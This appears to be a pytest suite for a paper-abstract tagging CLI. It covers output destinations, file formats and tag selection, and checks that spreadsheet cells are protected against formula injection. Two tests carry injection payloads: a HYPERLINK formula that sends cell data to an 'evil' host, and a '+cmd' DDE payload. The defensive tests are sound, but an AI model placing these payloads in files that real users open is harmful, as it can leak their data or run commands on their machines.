"""Where ``--output`` writes: regular files atomically, special files through, inputs never."""

import csv
import io
import json
import os
import stat
import subprocess
import sys
import threading

import numpy as np
import pytest
from conftest import SEED_FILES, SEEDS, run
from hypothesis import given
from hypothesis import strategies as st

import tagger
from tagger.prediction import NO_AREA

ROWS = 38 + 1  # the seeds' rows and the header


def tag(capsys, *args):
    return run(capsys, "predict", *map(str, SEED_FILES), "--quiet", *args)


def test_a_symlink_is_written_through_to_its_target(capsys, tmp_path):
    (tmp_path / "real.csv").write_text("old\n")
    (tmp_path / "link.csv").symlink_to("real.csv")
    status, _, _ = tag(capsys, "--output", str(tmp_path / "link.csv"))
    assert status == 0 and (tmp_path / "link.csv").is_symlink()
    assert len((tmp_path / "real.csv").read_text().splitlines()) == ROWS
    (tmp_path / "dangling.csv").symlink_to("made.csv")
    assert tag(capsys, "--output", str(tmp_path / "dangling.csv"))[0] == 0
    assert (tmp_path / "dangling.csv").is_symlink() and (tmp_path / "made.csv").is_file()


def test_a_fifo_is_written_through(capsys, tmp_path):
    fifo = tmp_path / "tags.fifo"
    os.mkfifo(fifo)
    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_text()), daemon=True)
    reader.start()
    status, _, _ = tag(capsys, "--output", str(fifo))
    reader.join(30)
    assert status == 0 and received and len(received[0].splitlines()) == ROWS
    assert stat.S_ISFIFO(fifo.lstat().st_mode)


@pytest.mark.skipif(os.geteuid() != 0, reason="making device nodes needs root")
def test_devices_are_written_through_never_replaced(capsys, tmp_path):
    null, full = tmp_path / "null", tmp_path / "full"
    os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # what /dev/null is
    os.mknod(full, stat.S_IFCHR | 0o666, os.makedev(1, 7))  # what /dev/full is
    assert tag(capsys, "--output", str(null))[0] == 0
    status, _, err = tag(capsys, "--output", str(full))
    assert status == 2
    assert (
        err
        == f"tagger: {full}: cannot write the output (No space left on device). Free some space, or choose another --output.\n"
    )
    assert stat.S_ISCHR(null.lstat().st_mode) and stat.S_ISCHR(full.lstat().st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["full", "null"]


def test_proc_self_fd_1_is_this_process_stdout(tmp_path):
    result = subprocess.run(
        [sys.executable, "-m", "tagger", "predict", *map(str, SEED_FILES), "--output", "/proc/self/fd/1"],
        capture_output=True,
        text=True,
        cwd=tmp_path,
    )
    assert result.returncode == 0 and len(result.stdout.splitlines()) == ROWS


def test_an_input_file_is_never_the_output(capsys, tmp_path):
    source = tmp_path / "papers.txt"
    source.write_text((SEEDS / "neurips2026-a.txt").read_text(encoding="utf-8"), encoding="utf-8")
    before = source.read_bytes()
    status, out, err = run(capsys, "predict", str(source), "--output", str(source))
    assert status == 2 and out == "" and source.read_bytes() == before
    assert err == (
        f"tagger: {source}: is an input ({source}): writing the tags there would replace the abstracts. "
        "Choose another --output.\n"
    )
    folder_input = SEEDS / "neurips2026-a.txt"
    status, _, err = run(capsys, "predict", SEEDS, "--quiet", "--output", str(folder_input))
    assert status == 2 and f"is an input ({SEEDS})" in err


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("", "tagger: the output file name is empty. Give --output a file name, or - for stdout.\n"),
        (".", "tagger: {target}: is a folder. Give --output a file name inside it.\n"),
        (
            "missing/tags.csv",
            "tagger: {target}: the folder {folder}/missing does not exist. Create it, or choose another --output.\n",
        ),
    ],
)
def test_an_output_that_cannot_be_written_is_named(capsys, tmp_path, monkeypatch, name, message):
    monkeypatch.chdir(tmp_path)
    status, out, err = tag(capsys, "--output", name)
    assert status == 2 and out == ""
    assert err == message.format(target=name, folder=os.path.realpath(tmp_path))
    assert list(tmp_path.iterdir()) == []


def test_a_long_name_is_written_and_no_temporary_file_is_left(capsys, tmp_path):
    target = tmp_path / ("a" * 250 + ".csv")
    assert tag(capsys, "--output", str(target))[0] == 0
    assert len(target.read_text().splitlines()) == ROWS
    assert [p.name for p in tmp_path.iterdir()] == [target.name]


def test_a_closed_stdout_is_one_clear_line(tmp_path):
    result = subprocess.run(
        [sys.executable, "-m", "tagger", "predict", *map(str, SEED_FILES)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        cwd=tmp_path,
        preexec_fn=lambda: os.close(1),
    )
    assert result.returncode == 2
    assert result.stderr == "tagger: standard output is closed. Give --output FILE, or redirect stdout.\n"


# -- what rows hold -------------------------------------------------------------------------------

PAPERS = (
    "title,abstract,doi,area\n"
    "Grasping,Robots learn to grasp cups from human video with diffusion policies.,10.1/a,robotics\n"
    "Bandits,A regret bound for bandits with delayed feedback.,10.1/b,theory\n"
)


@given(st.integers(1, 11), st.floats(0, 1), st.sampled_from(tagger.load_model().areas))
def test_top_tags_are_the_most_likely_areas_above_the_floor(k, floor, word):
    prediction = tagger.predict(f"{word} models for graphs and robots")
    tags = prediction.top(k, floor)
    assert len(tags) <= k and all(p >= floor for _, p in tags)
    assert [p for _, p in tags] == sorted((p for _, p in tags), reverse=True)
    expected = sorted(prediction.scores.items(), key=lambda item: -item[1])[:k]
    assert tags == [(area, p) for area, p in expected if p >= floor]
    if prediction.confidence >= floor and prediction.area != NO_AREA:
        assert tags[0] == (prediction.area, prediction.confidence)
    elif prediction.confidence >= floor:  # a tie: the first of the equal areas, though no answer
        assert tags[0][1] == prediction.confidence


def test_tags_and_kept_columns_in_csv_and_json_lines(capsys, tmp_path):
    papers = tmp_path / "papers.csv"
    papers.write_text(PAPERS)
    status, out, _ = run(capsys, "predict", papers, "--top-k", "2", "--keep", "Title,DOI")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert status == 0 and list(rows[0])[-3:] == ["tags", "Title", "DOI"]
    assert [(r["Title"], r["DOI"]) for r in rows] == [("Grasping", "10.1/a"), ("Bandits", "10.1/b")]
    for row in rows:
        tags = [tag.split(":") for tag in row["tags"].split(";")]
        assert len(tags) == 2 and tags[0] == [row["area"], row["confidence"]]
    status, out, _ = run(
        capsys, "predict", papers, "--min-confidence", "0.5", "--keep", "all", "-o", tmp_path / "t.jsonl"
    )
    rows = [json.loads(line) for line in (tmp_path / "t.jsonl").read_text().splitlines()]
    assert status == 0 and out == ""
    assert [r["tags"] for r in rows] == [[{"area": r["area"], "confidence": r["confidence"]}] for r in rows]
    assert (
        rows[0]["doi"] == "10.1/a" and rows[0]["input_area"] == "robotics" and rows[0]["area"] == "robotics"
    )


@pytest.mark.parametrize("name", ["t.csv", "t.jsonl", "t.parquet", "t.xlsx"])
def test_every_area_s_probability_as_a_column_in_every_format(capsys, tmp_path, name):
    """--all-probabilities (as fastText's predict-prob -k -1): a probability_AREA column per area
    of the model, in its order, after tags and before kept columns; each row's sum to 1 and hold
    its confidence; a kept input column of that name is written as input_NAME."""
    pd = pytest.importorskip("pandas")
    papers = tmp_path / "papers.csv"
    papers.write_text(PAPERS.replace(",doi,", ",probability_llm,", 1))
    status, _, err = run(
        capsys, "predict", papers, "--all-probabilities", "--keep", "all", "-o", tmp_path / name
    )
    assert status == 0, err
    read = {
        "t.csv": pd.read_csv,
        "t.jsonl": lambda p: pd.read_json(p, lines=True),
        "t.parquet": pd.read_parquet,
        "t.xlsx": pd.read_excel,
    }
    frame = read[name](tmp_path / name)
    areas = list(tagger.load_model().areas)
    columns = [f"probability_{area}" for area in areas]
    after_tags = list(frame.columns)[list(frame.columns).index("tags") + 1 :]
    assert after_tags[: len(areas)] == columns and "input_probability_llm" in after_tags[len(areas) :]
    scores = frame[columns].to_numpy(dtype=float)
    assert np.allclose(scores.sum(axis=1), 1, atol=1e-3)
    assert np.allclose(scores.max(axis=1), frame["confidence"].to_numpy(dtype=float))
    assert [areas[i] for i in scores.argmax(axis=1)] == list(frame["area"])


def test_all_probabilities_on_an_empty_pile_still_name_the_columns(capsys, tmp_path):
    (tmp_path / "empty.csv").write_text("abstract\n")
    status, out, _ = run(capsys, "predict", tmp_path / "empty.csv", "--all-probabilities")
    assert status == 0 and out.splitlines()[0].endswith(
        ",tags," + ",".join(f"probability_{a}" for a in tagger.load_model().areas)
    )


def from_parquet_tags(folder):
    import pyarrow.parquet as parquet

    return parquet.read_table(folder / "t.parquet").column("tags").to_pylist()


def test_the_output_format_follows_the_extension(capsys, tmp_path):
    pd = pytest.importorskip("pandas")
    pytest.importorskip("pyarrow")
    papers = tmp_path / "papers.csv"
    papers.write_text(PAPERS)
    assert tag(capsys, "-o", str(tmp_path / "t.csv"))[0] == 0
    assert tag(capsys, "-o", str(tmp_path / "t.jsonl"))[0] == 0
    assert tag(capsys, "-o", str(tmp_path / "t.parquet"))[0] == 0
    assert tag(capsys, "-o", str(tmp_path / "t.xlsx"))[0] == 0
    assert tag(capsys, "-o", str(tmp_path / "forced.txt"), "--format", "jsonl")[0] == 0
    from_csv = pd.read_csv(tmp_path / "t.csv", dtype={"id": str}, keep_default_na=False)  # (empty titles)
    from_jsonl = pd.read_json(tmp_path / "t.jsonl", lines=True, dtype={"id": str})
    from_parquet = pd.read_parquet(tmp_path / "t.parquet")
    assert len(from_csv) == 38
    as_cells = [";".join(f"{t['area']}:{t['confidence']}" for t in tags) for tags in from_parquet.pop("tags")]
    assert as_cells == list(from_csv.pop("tags"))
    from_jsonl_tags = [[(t["area"], t["confidence"]) for t in tags] for tags in from_jsonl.pop("tags")]
    expected = [
        [(t["area"], pytest.approx(t["confidence"])) for t in tags] for tags in from_parquet_tags(tmp_path)
    ]
    assert from_jsonl_tags == expected
    pd.testing.assert_frame_equal(from_csv, from_parquet, check_dtype=False)
    pd.testing.assert_frame_equal(from_csv, from_jsonl, check_dtype=False)
    from_xlsx = pd.read_excel(tmp_path / "t.xlsx", dtype={"id": str, "title": str}, keep_default_na=False)
    pd.testing.assert_frame_equal(from_csv, from_xlsx.drop(columns="tags"), check_dtype=False)
    assert (tmp_path / "forced.txt").read_text().startswith('{"source"')
    status, _, _ = run(
        capsys, "predict", papers, "--top-k", "3", "--keep", "doi", "-o", tmp_path / "k.parquet"
    )
    frame = pd.read_parquet(tmp_path / "k.parquet")
    assert status == 0 and list(frame.columns)[-2:] == ["tags", "doi"] and len(frame["tags"][0]) == 3


def test_a_kept_column_named_like_ours_is_written_as_input_name(capsys, tmp_path):
    papers = tmp_path / "papers.csv"
    papers.write_text(PAPERS)
    status, out, err = run(capsys, "predict", papers, "--keep", "area,doi")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert status == 0 and list(rows[0])[-2:] == ["input_area", "doi"] and "not written" not in err
    assert [(r["input_area"], r["doi"]) for r in rows] == [("robotics", "10.1/a"), ("theory", "10.1/b")]


def test_kept_columns_of_any_values_reach_parquet_whole(capsys, tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    records = []
    for i in range(1200):  # chunks of 500: the values change after the first chunk
        meta = {"a": i} if i < 500 else {"b": f"x{i}", "c": [i, None]}
        doi = i if i < 600 else f"10.1/{i}"
        records.append({"abstract": f"Robots grasp cup number {i}.", "meta": meta, "doi": doi, "blob": None})
    path = tmp_path / "papers.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    status, _, err = run(capsys, "predict", path, "--keep", "all", "-o", tmp_path / "all.parquet")
    assert status == 0, err
    table = pq.read_table(tmp_path / "all.parquet").to_pylist()
    assert len(table) == 1200
    assert [json.loads(row["meta"]) for row in table] == [r["meta"] for r in records]
    assert [row["doi"] for row in table] == [str(r["doi"]) for r in records]
    status, _, err = run(capsys, "predict", path, "--keep", "doi", "-o", tmp_path / "doi.parquet")
    assert status == 0 and "Traceback" not in err
    assert [row["doi"] for row in pq.read_table(tmp_path / "doi.parquet").to_pylist()] == [
        str(r["doi"]) for r in records
    ]


kept_values = st.one_of(
    st.none(),
    st.text(max_size=8),
    st.integers(),
    st.floats(allow_nan=False),
    st.booleans(),
    st.lists(st.integers(), max_size=2),
    st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
)


@given(
    st.lists(
        st.dictionaries(st.sampled_from(["doi", "area", "x", "Y", "tags", "probability_llm"]), kept_values),
        min_size=1,
        max_size=6,
    ),
    st.sampled_from([("*",), ("doi", "area"), ("y",), ("probability_llm", "x")]),
    st.booleans(),
    st.booleans(),
)
def test_csv_cells_by_column_equal_the_rows_written_one_dict_at_a_time(shipped, kept, keep, tags, every):
    from tagger.output import ChunkRows, Layout, RowWriter
    from tagger.reading import Abstract

    chunk = [Abstract(str(i), "Robots grasp cups.", "a.jsonl", i, i, extra=row) for i, row in enumerate(kept)]
    layout = Layout(top_k=2 if tags else None, keep=keep, every_area=shipped.areas if every else ())
    rows = ChunkRows(chunk, shipped.predict_proba([a.text for a in chunk]), shipped, None, layout)
    by_column, by_dict = io.StringIO(), io.StringIO()
    fast, slow = RowWriter(by_column, "csv", layout), RowWriter(by_dict, "csv", layout)
    fast.write_rows(rows)
    slow.write_rows(list(rows))
    assert by_column.getvalue() == by_dict.getvalue() and fast.unwritten == slow.unwritten


@given(
    st.lists(st.lists(st.floats(0, 1), min_size=3, max_size=3), min_size=1, max_size=6).filter(
        lambda rows: all(sum(row) > 0 for row in rows)
    )
)
def test_default_tags_are_the_area_and_a_close_runner_up(rows):
    from tagger.prediction import NO_AREA, RUNNER_UP_TAG, default_tags, predictions

    probabilities = np.array(rows) / np.array(rows).sum(axis=1, keepdims=True)
    areas = ["a", "b", "c"]
    for tags, prediction in zip(default_tags(probabilities, areas), predictions(probabilities, areas, 0.5)):
        assert tags == prediction.tags
        if prediction.area == NO_AREA:  # a tie: no answer, no tag
            assert tags == [] and prediction.needs_review
            assert prediction.confidence - prediction.runner_up_confidence <= 1e-12
            continue
        assert tags[0] == (prediction.area, prediction.confidence)  # the area, whatever its probability
        close = prediction.runner_up_confidence >= RUNNER_UP_TAG
        assert tags[1:] == ([(prediction.runner_up, prediction.runner_up_confidence)] if close else [])


def test_compressed_output_is_written_as_its_name_says(capsys, tmp_path):
    import gzip

    assert tag(capsys, "-o", str(tmp_path / "t.jsonl.gz"))[0] == 0
    assert tag(capsys, "-o", str(tmp_path / "t.csv.gz"))[0] == 0
    assert tag(capsys, "-o", str(tmp_path / "t.csv"))[0] == 0
    lines = gzip.decompress((tmp_path / "t.jsonl.gz").read_bytes()).decode("utf-8").splitlines()
    assert len(lines) == 38 and json.loads(lines[0])["source"].endswith("neurips2026-a.txt")
    assert gzip.decompress((tmp_path / "t.csv.gz").read_bytes()) == (tmp_path / "t.csv").read_bytes()


@pytest.mark.parametrize("name", ["t.json", "t.txt", "t.tsv", "t.parquet.gz", "t.gz", "t"])
def test_an_output_name_of_no_format_we_write_is_refused_not_written_as_csv(capsys, tmp_path, name):
    status, out, err = tag(capsys, "-o", str(tmp_path / name))
    assert status == 2 and out == "" and not (tmp_path / name).exists()
    assert err.startswith(
        f"tagger: {tmp_path / name}: cannot tell which format to write from the name '{name}'"
    )
    assert err.endswith(
        "End it in .csv, .jsonl, .parquet or .xlsx (.csv.gz or .jsonl.gz for gzip), or give --format.\n"
    )


@given(st.text(max_size=12))
def test_a_cell_guarded_against_formulas_reads_back_as_it_was(cell):
    from tagger.formulas import guarded, unguarded

    written = guarded(cell)
    assert unguarded(written) == cell
    assert written == cell or written == "'" + cell
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):  # what a spreadsheet runs: never written bare
        assert written[0] == "'" or float(cell) == float(cell)  # (a number runs nothing)


def test_csv_for_people_never_holds_a_formula_and_reads_back_as_it_was(capsys, tmp_path):
    """A title ``=HYPERLINK(...)``, an id ``@SUM(1)`` or a topic ``=cmd|...`` would run in the
    spreadsheet that opens the file: written behind a quote (OWASP), read back without it."""
    import csv as csv_module

    from conftest import run

    evil = '=HYPERLINK("http://evil/?x="&A1,"click")'
    papers = tmp_path / "papers.csv"
    with open(papers, "w", newline="") as out:
        rows = csv_module.writer(out)
        rows.writerow(["id", "title", "abstract", "note"])
        rows.writerow(["@SUM(1)", evil, "We train legged robots to walk over rough ground.", "-2"])
        rows.writerow(
            ["-x", "+cmd|' /C calc'!A0", "A regret bound for bandits with delayed feedback.", "\tx"]
        )
    for keep in ([], ["--keep", "note"]):
        status, _, _ = run(capsys, "predict", papers, *keep, "-o", tmp_path / "tags.csv")
        assert status == 0
        with open(tmp_path / "tags.csv", newline="") as written:
            table = list(csv_module.DictReader(written))
        assert [row["id"] for row in table] == ["'@SUM(1)", "'-x"]
        assert [row["title"] for row in table] == ["'" + evil, "'+cmd|' /C calc'!A0"]
        assert all(cell[:1] not in "=+-@\t\r" or cell == "-2" for row in table for cell in row.values())
    assert [row["note"] for row in table] == ["-2", "'\tx"]  # (a number runs nothing: as it is)
    # Read back by tagger (a pile, the report) as they were, with a note.
    status, out, err = run(capsys, "predict", tmp_path / "tags.csv", "--column", "id", "--keep", "title")
    assert status == 0 and [line.split(",")[2] for line in out.splitlines()[1:]] == ["'@SUM(1)", "'-x"]
    assert "tags.csv: 5 cell(s) began with ' before = + - @" in err
    from tagger.report import _chunks

    [(_, frame, _, _)] = list(_chunks(str(tmp_path / "tags.csv"), None, 100))
    assert frame["id"].tolist() == ["@SUM(1)", "-x"] and frame["title"].tolist()[0] == evil
    # The labels a team exports: a topic that starts a formula is guarded too.
    status, _, _ = run(capsys, "init", tmp_path / "project")
    labels = tmp_path / "project" / "labels" / "labels.csv"
    with open(labels, "a", newline="") as out:
        csv_module.writer(out).writerow(["0123456789abcdef", "robotics", evil, "", "", "=1+1"])
    status, _, _ = run(capsys, "labels", "--labels", labels.parent, "-o", tmp_path / "labels.csv")
    with open(tmp_path / "labels.csv", newline="") as written:
        last = list(csv_module.DictReader(written))[-1]
    assert status == 0 and last["abstract_id"] == "0123456789abcdef" and last["topic"] == "'=1+1"


def test_an_excel_workbook_of_tags_holds_text_never_formulas_and_refuses_what_a_cell_cannot_hold(
    capsys, tmp_path
):
    """Where a spreadsheet is the destination: tags as .xlsx, each text a text cell (a title
    ``=HYPERLINK(...)`` is shown, never run), numbers as numbers, read back by the report; a
    cell Excel cannot hold is an error and nothing is written."""
    from openpyxl import load_workbook

    from tagger.report import _chunks

    evil = '=HYPERLINK("http://evil/?x="&A1,"click")'
    papers = tmp_path / "papers.jsonl"
    papers.write_text(
        json.dumps({"id": "@SUM(1)", "title": evil, "abstract": "We train legged robots to walk."}) + "\n"
    )
    status, _, _ = run(capsys, "predict", papers, "--keep", "all", "-o", tmp_path / "t.xlsx")
    header, row = load_workbook(tmp_path / "t.xlsx").active.iter_rows()
    cells = {name.value: cell for name, cell in zip(header, row)}
    assert status == 0 and cells["title"].value == evil and cells["title"].data_type == "s"
    assert cells["id"].value == "@SUM(1)" and cells["input_title"].data_type == "s"
    assert cells["confidence"].data_type == "n" and cells["needs_review"].data_type == "b"
    [(_, frame, _, _)] = list(_chunks(str(tmp_path / "t.xlsx"), None, 100))
    assert frame["title"].tolist() == [evil] and frame["area"].tolist() == ["robotics"]
    papers.write_text(json.dumps({"abstract": "Robots walk. " * 3000}) + "\n")
    status, _, err = run(capsys, "predict", papers, "--keep", "abstract", "-o", tmp_path / "long.xlsx")
    assert status != 0 and "holds 39,000 characters, over the 32,767 an Excel cell holds" in err
    assert "Write .csv or .parquet instead" in err and not (tmp_path / "long.xlsx").exists()
